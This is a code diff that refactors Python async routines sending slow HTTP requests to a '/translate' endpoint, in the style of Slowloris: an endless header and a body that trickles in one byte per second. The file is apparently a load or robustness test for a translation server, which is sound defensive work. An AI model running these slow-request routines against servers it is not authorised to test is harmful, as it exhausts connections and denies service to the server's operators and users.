@@ -69,30 +69,27 @@ class Attack:
         return "\n".join(f"{self.chooser.getrandbits(40):x}"[:8] for _ in range(count))
 
 
-async def slow_bodies(attack: Attack) -> None:
-    """A body of which a byte comes every second."""
+async def trickle(attack: Attack, start: bytes, more: bytes) -> None:
+    """Sends the start of a request, then a little every second."""
     _, writer = await attack.connect()
     try:
-        writer.write(attack.head("/translate", 100) + b"{")
+        writer.write(start)
         while not writer.is_closing():
             await asyncio.sleep(1)
-            writer.write(b" ")
+            writer.write(more)
             await writer.drain()
     finally:
         writer.close()
+
+
+async def slow_bodies(attack: Attack) -> None:
+    """A body of which a byte comes every second."""
+    await trickle(attack, attack.head("/translate", 100) + b"{", b" ")
 
 
 async def slow_heads(attack: Attack) -> None:
     """A head that doesn't end."""
-    _, writer = await attack.connect()
-    try:
-        writer.write(b"POST /translate HTTP/1.1\r\n")
-        while not writer.is_closing():
-            await asyncio.sleep(1)
-            writer.write(b"X-A: b\r\n")
-            await writer.drain()
-    finally:
-        writer.close()
+    await trickle(attack, b"POST /translate HTTP/1.1\r\n", b"X-A: b\r\n")
 
 
 async def short_lines(attack: Attack) -> None:
